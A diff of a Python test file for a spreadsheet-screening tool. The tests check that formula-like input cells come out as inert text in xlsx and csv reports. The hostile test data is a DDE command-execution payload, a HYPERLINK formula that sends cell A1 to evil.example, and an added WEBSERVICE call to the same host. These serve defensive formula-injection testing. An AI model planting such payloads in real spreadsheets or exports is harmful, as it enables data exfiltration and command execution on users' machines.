@@ -19,6 +19,7 @@ from openpyxl import load_workbook
 
 from sheetkit import ROOT, empty_rows, inline_row, package, row_of, screen_in, sheet_xml, write_xlsx
 
+from checker_sheets.columns import columns
 from checker_sheets.read import EXCEL_ROWS, MAX_BYTES, MAX_COLUMNS, MAX_MB, MAX_PART_MB, MAX_ROW_TAGS, MAX_ROWS, read_sheet
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
@@ -28,10 +29,11 @@ MEMORY_CAP = 768 * 2**20
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
-# Hostile texts in a column of the unit's own, in a choice and a date column, in headers and in the file name.
+# Hostile texts in a column of the unit's own, in a choice and a date column, in the names the summary
+# sheet shows, in headers and in the file name.
 HOSTILE_ROWS = [
-    ["unit.in_karamay", "unit.kind", "leader.birth_date", "备注", "=1+1", "@note"],
-    ["是", DDE, "@SUM(1+1)", HYPERLINK, "+2+3", "-2+3"],
+    ["unit.in_karamay", "unit.kind", "leader.birth_date", "备注", "=1+1", "@note", "单位名称", "项目名称"],
+    ["是", DDE, "@SUM(1+1)", HYPERLINK, "+2+3", "-2+3", "=WEBSERVICE(\"http://evil.example/\")", "-1+1 项目"],
     ["是", "企业", "1980-01-01", "\tTAB", "\rCR", "#N/A"],
 ]
 HOSTILE_FILE = "=HYPERLINK(1).csv"
@@ -68,16 +70,20 @@ def test_text_like_a_formula_is_a_string_cell_in_the_xlsx_report_and_behind_an_a
     status, _, err = screen_in(tmp_path, HOSTILE_FILE, "--output", "report.xlsx")
     assert status == 2 and "Traceback" not in err  # the choice cell is an input error; the report is written
     with zipfile.ZipFile(tmp_path / "report.xlsx") as report:
-        parts = [report.read(name).decode("utf-8") for name in report.namelist() if name.startswith("xl/worksheets/")]
-    assert len(parts) == 2
+        parts = [report.read(name).decode("utf-8") for name in report.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
+    assert len(parts) == 3  # the summary, the detail and the counts
     assert not [part for part in parts if re.search(r"<(\w+:)?f[\s>]", part)], "a formula in the report"
     assert not [part for part in parts if 't="e"' in part], "an error value in the report"
     workbook = load_workbook(tmp_path / "report.xlsx")
-    cells = {cell.value: cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None}
+    cells = {}
+    for sheet in workbook:
+        for row in sheet.iter_rows():
+            for cell in row:
+                cells.setdefault(cell.value, []).append(cell)
     for text in _hostile_texts():
-        cell = cells[_read_back(text)]
-        assert cell.data_type == "s", (text, cell.data_type)
-        assert cell.quotePrefix == (text[:1] in "=+-@\t\r"), text
+        for cell in cells[_read_back(text)]:  # a name is both in the summary and in the detail
+            assert cell.data_type == "s", (text, cell.data_type)
+            assert cell.quotePrefix == (text[:1] in "=+-@\t\r"), text
 
     status, _, err = screen_in(tmp_path, HOSTILE_FILE, "--output", "report.csv")
     assert status == 2 and "Traceback" not in err
@@ -121,7 +127,7 @@ def test_libreoffice_shows_the_hostile_texts_of_both_reports_as_text_and_evaluat
 
     shown = _calc(tmp_path, tmp_path / "report.xlsx", "xlsx")
     cells = [cell for rows in shown.values() for row in rows for cell in row]
-    assert len(shown) == 2  # the results and the summary, which names the input file
+    assert len(shown) == 3  # the summary, the detail and the counts, which name the input file
     for text in _hostile_texts():
         assert _read_back(text) in cells, text
     assert "click" not in cells
@@ -137,7 +143,7 @@ def test_a_control_character_in_a_csv_cell_is_shown_as_a_replacement_character_i
     (tmp_path / "bell.csv").write_text("unit.in_karamay,备注\n是,a\x07b\n", encoding="utf-8")
     status, _, err = screen_in(tmp_path, "bell.csv", "--output", "report.xlsx")
     assert status == 0, err
-    rows = list(load_workbook(tmp_path / "report.xlsx").worksheets[0].iter_rows(values_only=True))
+    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
     assert rows[1][2] == "a\ufffdb"
 
 
@@ -154,8 +160,8 @@ def test_the_active_sheet_is_read_not_a_hidden_first_sheet_and_the_sheet_read_is
     assert status == 0, err
     assert err.splitlines()[0] == "读取工作表“申报项目”"
     workbook = load_workbook(tmp_path / "report.xlsx")
-    assert [row[2] for row in workbook.worksheets[0].iter_rows(min_row=2, values_only=True)] == ["甲公司", "乙公司"]
-    assert ["工作表", "申报项目"] in [list(row[:2]) for row in workbook.worksheets[1].iter_rows(values_only=True)]
+    assert [row[2] for row in workbook["明细"].iter_rows(min_row=2, values_only=True)] == ["甲公司", "乙公司"]
+    assert ["工作表", "申报项目"] in [list(row[:2]) for row in workbook["统计"].iter_rows(values_only=True)]
     status, _, err = screen_in(tmp_path, "two.xlsx", "--output", "report.jsonl", lang="en")
     assert err.splitlines()[0] == "reading sheet “申报项目”"
 
@@ -166,7 +172,7 @@ def test_of_two_visible_sheets_with_the_header_the_active_one_is_read(tmp_path):
     package(tmp_path / "two.xlsx", [("一", "visible", first), ("二", "visible", second)], active=1)
     status, _, err = screen_in(tmp_path, "two.xlsx", "--output", "report.xlsx")
     assert status == 0 and "读取工作表“二”" in err
-    rows = list(load_workbook(tmp_path / "report.xlsx").worksheets[0].iter_rows(min_row=2, values_only=True))
+    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(min_row=2, values_only=True))
     assert [row[2] for row in rows] == ["第二张表"]
 
 
@@ -240,7 +246,7 @@ def test_a_sheet_claiming_a_million_rows_and_every_column_is_read_as_the_rows_it
     package(tmp_path / "claim.xlsx", [("S", "visible", claim)])
     status, _, err = screen_in(tmp_path, "claim.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
     assert status == 0, err
-    rows = list(load_workbook(tmp_path / "report.xlsx").worksheets[0].iter_rows(values_only=True))
+    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
     assert len(rows) == 2 and rows[1][:2] == (2, "是")
 
 
@@ -284,7 +290,7 @@ def _many_rows(count):
 
 def test_the_row_limit_takes_exactly_its_number_of_rows_below_the_header(rules, tmp_path):
     package(tmp_path / "full.xlsx", [("S", "visible", _many_rows(MAX_ROWS))])
-    sheet = read_sheet((tmp_path / "full.xlsx").read_bytes(), "full.xlsx", rules["fields"])
+    sheet = read_sheet((tmp_path / "full.xlsx").read_bytes(), "full.xlsx", columns(rules))
     assert len(sheet.rows) == MAX_ROWS and sheet.rows[-1][0] == MAX_ROWS + 2
     package(tmp_path / "over.xlsx", [("S", "visible", _many_rows(MAX_ROWS + 1))])
     status, _, err = screen_in(tmp_path, "over.xlsx", "--output", "report.xlsx")
@@ -334,8 +340,8 @@ def test_data_right_of_the_headers_last_cell_is_kept_in_the_report(cols, tmp_pat
     write_xlsx(tmp_path / "notes.xlsx", ["unit.in_karamay"], [["是", None, "旁注"]])
     status, _, err = screen_in(tmp_path, "notes.xlsx", "--output", "report.xlsx")
     assert status == 0, err
-    rows = list(load_workbook(tmp_path / "report.xlsx").worksheets[0].iter_rows(values_only=True))
-    assert rows[0][:5] == ("行号", "unit.in_karamay", None, None, "输入错误")
+    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
+    assert rows[0][:6] == ("行号", "unit.in_karamay", None, None, "输入错误", "跨行核对")
     assert rows[1][:4] == (2, "是", None, "旁注")
 
 
@@ -426,7 +432,7 @@ def test_sigterm_while_the_report_is_written_leaves_no_hidden_temporary_file(col
     # Enough rows that the .jsonl report (each row evaluated whole as it is written) takes a while.
     rows = [row_of(p, cols) for p in profiles_for_sheets] * (3000 // len(profiles_for_sheets) + 1)
     write_xlsx(tmp_path / "in.xlsx", [c.label["zh"] for c in cols], rows)
-    process = subprocess.Popen([sys.executable, "-m", "checker_py", "screen", "in.xlsx", "--output", "report.jsonl"],
+    process = subprocess.Popen([sys.executable, "-m", "checker_sheets", "screen", "in.xlsx", "--output", "report.jsonl"],
                                cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)},
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     # The sheet's name is said when the screening is done, just before the report is written.
